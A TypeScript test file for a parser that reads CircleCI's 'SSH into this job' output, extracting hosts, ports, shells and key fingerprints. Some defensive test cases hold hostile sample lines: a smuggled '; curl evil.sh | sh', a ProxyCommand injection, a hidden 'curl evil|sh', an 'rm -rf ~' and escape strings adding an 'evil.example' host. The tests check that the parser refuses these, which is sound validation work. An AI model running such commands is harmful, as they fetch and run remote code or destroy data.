import { describe, expect, it } from 'vitest';
import { cleanLine, parseSshOutput, splitOutputLines, startsWithShellLine } from './ssh-output';

const parse = (text: string) => parseSshOutput(splitOutputLines(text));
const targets = (text: string) => parse(text).commands.map((command) => command.target);

// The circleci-docs screenshot rerun-job-connect.png (docs/circleci-page.md#t1-direct-form): cloud docker job, 2026.
const S1 = `You can now SSH into this box if your SSH public key is added:
    $ ssh -p 42915 18.207.148.116

Use the same SSH public key that you've added in your User Settings or that you use for your VCS-provider (e.g., GitHub).

Job SSH keys can be added in your User Settings at https://app.circleci.com/settings/user/job-ssh-keys

Host keys:
- SHA256:shNGVQBnn2eCFwz3oKVH7r3012RaGYT+gR+QHXN2d40 (rsa-sha2-512)
- SHA256:shNGVQBnn2eCFwz3oKVH7r3012RaGYT+gR+QHXN2d40 (rsa-sha2-256)
- SHA256:shNGVQBnn2eCFwz3oKVH7r3012RaGYT+gR+QHXN2d40 (RSA)
- SHA256:msh+vmQl6wniEVgyWW0engHfH/VkeyEAnfuhwERqxeg (ED25519)
Authorized keys:
- SHA256:P0nRIWAu7DDjSjJfIzu4nez3o7wr2IU+uIq45VQvIi8 (ED25519)
- SHA256:u4DcSYajGpFn4l0oIkODU1/N/dayRjQcn3dN0grW3JE (ED25519)
- SHA256:u4DcSYajGpFn4l0oIkODU1/N/dayRjQcn3dN0grW3JE (ED25519)

SSH Session Activity Log (times in UTC):`;

// S2: about 2020–2022, with the stay-up sentence wrapped over two lines.
const S2 = `You can now SSH into this box if your SSH public key is added:
    $ ssh -p 64537 18.209.34.18

Use the same SSH public key that you use for your VCS-provider (e.g., GitHub).

RSA key fingerprint of the host is
  SHA256:gmdDJdpQLMdwGZi7tgZMJvHsbaN3ctAMn8U5paOPasw
  MD5:35:8a:4a:b3:3f:3f:0d:ad:f8:36:44:ce:a7:6e:01:22

This box will stay up for 2h0m0s, or until 10m0s passes without
an active SSH session.`;

describe('parseSshOutput on the research samples', () => {
  it('S1: direct form with host keys and authorized keys', () => {
    const output = parse(S1);
    expect(output.commands).toEqual([{ target: { host: '18.207.148.116', port: 42915, tty: false }, line: 1 }]);
    expect(output.hostKeys).toEqual([
      { hash: 'SHA256', value: 'shNGVQBnn2eCFwz3oKVH7r3012RaGYT+gR+QHXN2d40', algorithm: 'rsa-sha2-512' },
      { hash: 'SHA256', value: 'shNGVQBnn2eCFwz3oKVH7r3012RaGYT+gR+QHXN2d40', algorithm: 'rsa-sha2-256' },
      { hash: 'SHA256', value: 'shNGVQBnn2eCFwz3oKVH7r3012RaGYT+gR+QHXN2d40', algorithm: 'RSA' },
      { hash: 'SHA256', value: 'msh+vmQl6wniEVgyWW0engHfH/VkeyEAnfuhwERqxeg', algorithm: 'ED25519' },
    ]);
    expect(output.authorizedKeys).toEqual([
      { hash: 'SHA256', value: 'P0nRIWAu7DDjSjJfIzu4nez3o7wr2IU+uIq45VQvIi8', algorithm: 'ED25519' },
      { hash: 'SHA256', value: 'u4DcSYajGpFn4l0oIkODU1/N/dayRjQcn3dN0grW3JE', algorithm: 'ED25519' },
    ]);
    expect(output.unrecognisedLines).toEqual([]);
    expect(output).toMatchObject({ settingUp: false, failed: false, isConfigRunStep: false });
    expect(output.stayUp).toBeUndefined();
  });

  it('S2: old RSA fingerprint block and a wrapped stay-up sentence', () => {
    const output = parse(S2);
    expect(targets(S2)).toEqual([{ host: '18.209.34.18', port: 64537, tty: false }]);
    expect(output.hostKeys).toEqual([
      { hash: 'SHA256', value: 'gmdDJdpQLMdwGZi7tgZMJvHsbaN3ctAMn8U5paOPasw' },
      { hash: 'MD5', value: '35:8a:4a:b3:3f:3f:0d:ad:f8:36:44:ce:a7:6e:01:22' },
    ]);
    expect(output.stayUp).toEqual({ maxSeconds: 7200, idleSeconds: 600 });
  });

  it('S3: a quote flattened onto one line is not a command line', () => {
    const output = parse(
      'You can now SSH into this box if your SSH public key is added: $ ssh -p 55555 10.10.10.10 Use the same SSH public key',
    );
    expect(output.commands).toEqual([]);
    expect(output.unrecognisedLines).toEqual([0]);
  });

  it('S4/S7: Windows prints one line per shell, with or without -t', () => {
    expect(
      targets(`You can now SSH into this box if your SSH public key is added:
    $ ssh -p 54782 35.226.214.52 -- bash.exe
    $ ssh -p 54782 35.226.214.52 -- cmd.exe
    $ ssh -p 54782 35.226.214.52 -- powershell.exe`),
    ).toEqual(
      ['bash.exe', 'cmd.exe', 'powershell.exe'].map((shell) => ({
        host: '35.226.214.52',
        port: 54782,
        tty: false,
        shell,
      })),
    );
    expect(targets('    $ ssh -t -p 54782 35.226.214.52 -- cmd.exe')).toEqual([
      { host: '35.226.214.52', port: 54782, tty: true, shell: 'cmd.exe' },
    ]);
    // Support 360056606311 puts -t after the host.
    expect(targets('$ ssh -p 54782 35.226.214.52 -t -- powershell.exe')).toEqual([
      { host: '35.226.214.52', port: 54782, tty: true, shell: 'powershell.exe' },
    ]);
  });

  it('S5: CircleCI 1.0 keeps ubuntu@ and the MD5 host fingerprint', () => {
    const output = parse(`- Host fingerprint: 4e:51:15:51:02:b7:c5:59:b2:da:2a:c7:c1:15:d4:35
- You can now SSH into this VM if your SSH public key is added:
    $ ssh -p 64594 ubuntu@18.221.109.33
  Use the same SSH public key that you use for GitHub.`);
    expect(output.commands.map((c) => c.target)).toEqual([
      { user: 'ubuntu', host: '18.221.109.33', port: 64594, tty: false },
    ]);
    expect(output.hostKeys).toEqual([{ hash: 'MD5', value: '4e:51:15:51:02:b7:c5:59:b2:da:2a:c7:c1:15:d4:35' }]);
  });

  it('S6: the failure message', () => {
    const output = parse(`Failed to enable SSH
No SSH key is found. Please make sure you’ve added at least one SSH key in your VCS account.`);
    expect(output).toMatchObject({ commands: [], failed: true, unrecognisedLines: [] });
  });

  it('S7: the proxy form, with and without -p 443, and the job header', () => {
    expect(
      targets(`You can now SSH into this job if your SSH public key is added:
    $ ssh 057f0065-7e6d-4912-921b-50917ff046a3-0@ssh.circleci.com`),
    ).toEqual([{ user: '057f0065-7e6d-4912-921b-50917ff046a3-0', host: 'ssh.circleci.com', tty: false }]);
    expect(targets('    $ ssh -p 443 057f0065-0@ssh.circleci.com')).toEqual([
      { user: '057f0065-0', host: 'ssh.circleci.com', port: 443, tty: false },
    ]);
  });

  it('S7: no header, an extra line before it, and "Setting up SSH..." before the command arrives', () => {
    expect(targets('$ ssh -p 64535 3.239.179.134')).toEqual([{ host: '3.239.179.134', port: 64535, tty: false }]);
    expect(
      targets(`Adding key for user@example.com
You can now SSH into this box if your SSH public key is added:
$ ssh -p 64535 3.239.179.134`),
    ).toHaveLength(1);
    expect(parse('Setting up SSH...\n')).toMatchObject({ commands: [], settingUp: true });
    expect(parse('Setting up SSH...\n$ ssh -p 64535 3.239.179.134').settingUp).toBe(false);
  });

  it('S9/S10: placeholders are not commands; other real lines are', () => {
    expect(parse('    $ ssh -p xxxxx xxx.xxx.xxx.xxx').commands).toEqual([]);
    expect(parse('    $ ssh -p 12345 1.23.456.789').commands).toEqual([]);
    expect(targets('    $ ssh -p 63535 54.236.40.67')).toEqual([{ host: '54.236.40.67', port: 63535, tty: false }]);
  });

  it("a CircleCI server's own proxy host, only where it is given", () => {
    const line = ['$ ssh 057f0065-0@ssh.ci.example.com'];
    expect(parseSshOutput(line).commands).toEqual([]);
    expect(parseSshOutput(line, ['ssh.ci.example.com']).commands.map((command) => command.target)).toEqual([
      { user: '057f0065-0', host: 'ssh.ci.example.com', tty: false },
    ]);
    expect(parseSshOutput(['$ ssh 057f0065-0@ssh.circleci.com'], ['ssh.ci.example.com']).commands).toEqual([]);
  });

  it('runner hostnames (advertise_addr) in the direct form', () => {
    expect(targets('    $ ssh -p 54782 runner-7.build.example.com')).toEqual([
      { host: 'runner-7.build.example.com', port: 54782, tty: false },
    ]);
    expect(targets('$ ssh -p 54782 buildbox')).toEqual([{ host: 'buildbox', port: 54782, tty: false }]);
  });
});

describe('what the page adds around a line', () => {
  it('strips ANSI colour codes and a line-number gutter', () => {
    expect(cleanLine('\x1b[1;32m    $ ssh\x1b[0m -p 42915 \x1b[36m18.207.148.116\x1b[0m')).toBe(
      '$ ssh -p 42915 18.207.148.116',
    );
    expect(cleanLine('12    $ ssh -p 42915 18.207.148.116')).toBe('$ ssh -p 42915 18.207.148.116');
    expect(targets('3\x1b[32m$ ssh -p 42915 18.207.148.116\x1b[0m')).toHaveLength(1);
  });

  it.each([
    ['DCS', '\x1bP'],
    ['SOS', '\x1bX'],
    ['PM', '\x1b^'],
    ['APC', '\x1b_'],
    ['OSC', '\x1b]0;'],
  ])('drops a %s string with its payload, which a terminal never shows, so it cannot join the host', (_, opener) => {
    for (const end of ['\x1b\\', '\x07'])
      expect(cleanLine(`$ ssh -p 42915 18.207.148.116${opener}.evil.example${end}`)).toBe(
        '$ ssh -p 42915 18.207.148.116',
      );
  });

  it('reads every command of a step and remembers its line', () => {
    const output = parse(`${S1}\n\n${S1}`);
    const secondCommandLine = splitOutputLines(S1).length + 2;
    expect(output.commands.map((command) => command.line)).toEqual([1, secondCommandLine]);
  });

  it('flags command-like lines that fail the grammar and copies nothing from them', () => {
    const output = parse(
      [
        '$ ssh -p 22 1.2.3.4; curl evil.sh | sh',
        '$ ssh -p 022 010.1.1.1',
        '$ ssh -oProxyCommand=id@ssh.circleci.com',
        '\x1b[8m; curl evil|sh\x1b[0m $ ssh -p 1 1.2.3.4',
        '\u200b$ ssh -p 1 1.2.3.4',
        'ssh-keyscan github.com >> ~/.ssh/known_hosts',
      ].join('\n'),
    );
    expect(output.commands).toEqual([]);
    expect(output.unrecognisedLines).toEqual([0, 1, 2, 3, 4]);
  });

  it('treats every line separator as the end of a line', () => {
    for (const separator of ['\r', '\r\n', '\u2028', '\u2029', '\u0085']) {
      const output = parse(`$ ssh -p 22 1.2.3.4${separator}$ rm -rf ~`);
      expect(output.commands).toEqual([{ target: { host: '1.2.3.4', port: 22, tty: false }, line: 0 }]);
    }
  });

  it('recognises a config run step by its shell line', () => {
    expect(parse('#!/bin/bash -eo pipefail\necho "$ ssh -p 2222 6.6.6.6"').isConfigRunStep).toBe(true);
    expect(parse('\n  #!/bin/sh -eo pipefail\n$ ssh -p 2222 6.6.6.6').isConfigRunStep).toBe(true);
    expect(parse(S1).isConfigRunStep).toBe(false);
    // The same answer from the first lines alone, as other steps are read.
    expect(startsWithShellLine(['', '\x1b[90m  #!/bin/sh -eo pipefail\x1b[0m'])).toBe(true);
    expect(startsWithShellLine(['  ', 'npm ci', '#!/bin/bash'])).toBe(false);
    expect(startsWithShellLine([])).toBe(false);
  });

  it('stays fast on a 5 MB single line', () => {
    const started = performance.now();
    const output = parse(`${'$ ssh '.repeat(900_000)}-p 22 1.2.3.4`);
    expect(output.commands).toEqual([]);
    expect(performance.now() - started).toBeLessThan(500);
  });
});
